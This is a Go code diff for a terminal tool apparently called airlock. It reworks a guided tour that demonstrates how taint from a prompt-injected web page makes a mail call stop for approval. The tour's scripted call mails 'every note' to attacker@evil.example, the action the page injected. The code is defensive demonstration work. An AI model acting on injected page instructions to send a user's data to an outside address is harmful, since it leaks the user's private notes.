@@ -39,8 +39,9 @@ const tourPage = "https://blog.example.com/mcp-tips"
 type tourStep struct {
 	title string
 	// text is the caption while no dialog is open; hint the one line shown while
-	// one is.
-	text, hint string
+	// one is; asked, when set, the caption's text while the tour's own question
+	// is open (two rows at 60 columns, so the dialog keeps its first lines).
+	text, hint, asked string
 }
 
 func tourSteps() []tourStep {
@@ -64,6 +65,8 @@ func tourSteps() []tourStep {
 				"an injection in escapes (⟨ESC⟩). Your context is now tainted, so the mail the page asks for still " +
 				"stops for you.",
 			hint: "answer it: taint from web__fetch_url",
+			asked: "The page web__fetch_url read tainted your context, so this mail stops for you, though its " +
+				"what-if policy is allow.",
 		},
 		{
 			title: "Rug pull",
@@ -86,7 +89,18 @@ type tourState struct {
 	// changed, once its definition changed since pinned).
 	show    trust.Ref
 	changed bool
+	// callID is the call of the tour's own question (the taint-escalated mail),
+	// and withdraw cancels that call with the tour's sentence; both zero when no
+	// call of the tour waits.
+	callID   string
+	withdraw context.CancelCauseFunc
 }
+
+// The sentences the tour withdraws its own question with.
+const (
+	tourLeftWhy  = "withdrawn: you left the tour"
+	tourAgainWhy = "withdrawn: the tour started this step again"
+)
 
 // tourFetchedMsg reports the tour's fetch of the injection page.
 type tourFetchedMsg struct {
@@ -98,8 +112,9 @@ type tourFetchedMsg struct {
 
 // tourSentMsg reports the end of the tour's taint-escalated call.
 type tourSentMsg struct {
-	gen uint64
-	err error
+	gen    uint64
+	callID string
+	err    error
 }
 
 // tourFetchCmd sets mail__send_email's policy to allow, so that only taint can
@@ -117,14 +132,14 @@ func tourFetchCmd(ctx context.Context, m *session.Manager, gen uint64) tea.Cmd {
 }
 
 // tourSendCmd makes the call the injected page asks for, in the person's now
-// tainted context; the engine asks, and the real dialog appears.
-func tourSendCmd(ctx context.Context, m *session.Manager, gen uint64) tea.Cmd {
+// tainted context, as call callID; the engine asks, and the real dialog appears.
+func tourSendCmd(ctx context.Context, m *session.Manager, gen uint64, callID string) tea.Cmd {
 	args, _ := json.Marshal(map[string]string{
 		"to": "attacker@evil.example", "subject": "your notes", "body": "every note, as the page asked",
 	})
 	return func() tea.Msg {
-		_, err := m.Call(ctx, model.CallRequest{Server: tourSend.Server, Tool: tourSend.Tool, Args: args})
-		return tourSentMsg{gen: gen, err: err}
+		_, err := m.Call(ctx, model.CallRequest{Server: tourSend.Server, Tool: tourSend.Tool, Args: args, CallID: callID})
+		return tourSentMsg{gen: gen, callID: callID, err: err}
 	}
 }
 
@@ -152,8 +167,10 @@ func (m *Model) tourGo(i int) tea.Cmd {
 		m.tour.show = tourSend
 		m.tourSync()
 	case 2:
+		// Entered again, the step asks again: its earlier question goes.
+		withdrawn := m.withdrawTourQuestion(tourAgainWhy)
 		m.status = "tour: fetching " + tourPage + " with web__fetch_url…"
-		return tourFetchCmd(m.ctx, m.sess, m.tour.gen)
+		return tea.Batch(withdrawn, tourFetchCmd(m.ctx, m.sess, m.tour.gen))
 	case 3:
 		if m.opts.Demo == nil {
 			m.status = "tour: the rug pull needs airlock demo"
@@ -174,6 +191,9 @@ func (m *Model) tourGo(i int) tea.Cmd {
 // Restore; what stays (your taint, which only the Grants view's guarded question
 // clears, and a tool changed since pinned, blocked until you review it) is said.
 func (m *Model) leaveTour(why string) tea.Cmd {
+	// The tour's own question goes with the tour, saying so, before anything the
+	// tour changed is restored: restoring would otherwise deny it as changed.
+	withdrawn := m.withdrawTourQuestion(tourLeftWhy)
 	m.tour.on = false
 	m.tour.show = trust.Ref{}
 	m.nav, m.screen = nil, screenMain
@@ -209,7 +229,7 @@ func (m *Model) leaveTour(why string) tea.Cmd {
 		if len(kept) > 0 {
 			m.status = why + ": " + strings.Join(kept, ", ") + " · ? lists every key"
 		}
-		return nil
+		return withdrawn
 	}
 	m.status = why
 	lines := []string{"Restore undoes what the tour changed that makes airlock less careful:"}
@@ -219,8 +239,39 @@ func (m *Model) leaveTour(why string) tea.Cmd {
 	if len(kept) > 0 {
 		lines = append(lines, "", "Either way "+strings.Join(kept, ", ")+".")
 	}
-	return m.q.AskChoice(choiceRestoreTour, "Restore the session the tour changed?", lines,
-		[2]string{"Restore", "Keep the tour's changes"}, question.ChoiceKeys("restore"))
+	return tea.Batch(withdrawn, m.q.AskChoice(choiceRestoreTour, "Restore the session the tour changed?", lines,
+		[2]string{"Restore", "Keep the tour's changes"}, question.ChoiceKeys("restore")))
+}
+
+// withdrawTourQuestion withdraws the question of the tour's own call, if one
+// waits: the call is cancelled with why (the engine records it after why it
+// asked) and its question leaves the overlay now, not when the engine's word of
+// it arrives, so that no later question is asked over it.
+func (m *Model) withdrawTourQuestion(why string) tea.Cmd {
+	cancel, callID := m.tour.withdraw, m.tour.callID
+	m.tour.withdraw, m.tour.callID = nil, ""
+	if cancel == nil {
+		return nil
+	}
+	cancel(&model.Withdrawal{Why: why})
+	var cmds []tea.Cmd
+	for _, p := range m.q.Approvals() {
+		if p.CallID == callID {
+			_, cmd := m.q.WithdrawApproval(p.ID)
+			cmds = append(cmds, cmd)
+		}
+	}
+	return tea.Batch(cmds...)
+}
+
+// tourQuestionOpen reports whether the question in front is the tour's own and
+// nothing else is drawn over the screen: the tour's caption then stays, below it.
+func (m *Model) tourQuestionOpen() bool {
+	if !m.tour.on || m.tour.callID == "" || !m.q.Open() || m.overlay.Open || m.queue.Open || m.screen == screenForm {
+		return false
+	}
+	p, ok := m.q.FrontApproval()
+	return ok && p.CallID == m.tour.callID
 }
 
 // restoreTour undoes the tour's what-if changes (such as the policy it set to allow).
@@ -232,9 +283,10 @@ func (m *Model) restoreTour() tea.Cmd {
 
 // startTour starts the guided tour from its first step (from the help overlay).
 func (m *Model) startTour() tea.Cmd {
+	withdrawn := m.withdrawTourQuestion(tourAgainWhy)
 	// gen keeps counting, so that a result of the earlier run is stale.
 	m.tour = tourState{on: true, keys: m.tour.keys, gen: m.tour.gen}
-	cmd := m.tourGo(0)
+	cmd := tea.Batch(withdrawn, m.tourGo(0))
 	m.relayout(false)
 	m.hazards.Refresh()
 	m.updateKeys()
@@ -290,13 +342,23 @@ func (m *Model) tourFetched(msg tourFetchedMsg) tea.Cmd {
 		return nil
 	}
 	m.status = "tour: the page is in; now the call it asks for: mail__send_email…"
-	return tourSendCmd(m.ctx, m.sess, msg.gen)
+	ctx, cancel := context.WithCancelCause(m.ctx)
+	m.tour.callID, m.tour.withdraw = m.sess.Engine().NewCallID(), cancel
+	return tourSendCmd(ctx, m.sess, msg.gen, m.tour.callID)
 }
 
 // tourSent says how the taint-escalated call ended.
 func (m *Model) tourSent(msg tourSentMsg) {
+	if msg.callID != "" && msg.callID == m.tour.callID && m.tour.withdraw != nil {
+		// The call ended: nothing of the tour waits any more.
+		m.tour.withdraw(nil)
+		m.tour.withdraw, m.tour.callID = nil, ""
+	}
 	var denied *model.DeniedError
+	var withdrawn *model.WithdrawnError
 	switch {
+	case errors.As(msg.err, &withdrawn) && len(withdrawn.Verdict.Reasons) > 0:
+		m.status = "⊗ mail__send_email " + common.Inline(m.St, withdrawn.Verdict.Reasons[len(withdrawn.Verdict.Reasons)-1], 100)
 	case msg.err == nil:
 		m.status = "✓ mail__send_email ran because you allowed it (the demo's mail sends nothing)"
 	case errors.As(msg.err, &denied):
@@ -307,9 +369,16 @@ func (m *Model) tourSent(msg tourSentMsg) {
 }
 
 // captionRows is the number of rows the layout gives the caption: none while a
-// modal is open (the one-line caption then takes the footer's row).
+// modal other than the tour's own question is open (the one-line caption then
+// takes the footer's row).
 func (m *Model) captionRows() int {
-	if !m.tour.on || m.modalOpen() {
+	switch {
+	case !m.tour.on:
+		return 0
+	case m.tourQuestionOpen():
+		// The rule is in the footer's row; the rows below hold the text.
+		return len(m.captionLines(max(m.width, minWidth))) - 1
+	case m.modalOpen():
 		return 0
 	}
 	return len(m.captionLines(max(m.width, minWidth)))
@@ -326,7 +395,7 @@ func (m *Model) captionLines(width int) []string {
 	s := steps[m.tour.step]
 	head := "Tour " + strconv.Itoa(m.tour.step+1) + "/" + strconv.Itoa(len(steps)) + " · " + s.title
 	keys := m.help.ShortHelpView(m.tour.keys.ShortHelp())
-	if m.modalOpen() {
+	if m.modalOpen() && !m.tourQuestionOpen() {
 		line := st.Title.Render("▌"+head) + st.Muted.Render(" · ") + s.hint + st.Muted.Render(" · ") + keys
 		return []string{common.Fit(line, width)}
 	}
@@ -345,7 +414,18 @@ func (m *Model) captionLines(width int) []string {
 	if m.height >= 36 {
 		maxText = 5
 	}
-	text := common.WrapOwn(s.text, width, "  ", "  ")
+	body := s.text
+	if m.tourQuestionOpen() {
+		// Beside the tour's own question: its words about that question, in
+		// rows the dialog can spare (it keeps who asks, server, tool and why).
+		if s.asked != "" {
+			body = s.asked
+		}
+		if m.height < 24 {
+			maxText = 2
+		}
+	}
+	text := common.WrapOwn(body, width, "  ", "  ")
 	if len(text) > maxText {
 		text = text[:maxText]
 		text[maxText-1] = cutAfterWord(text[maxText-1], width)
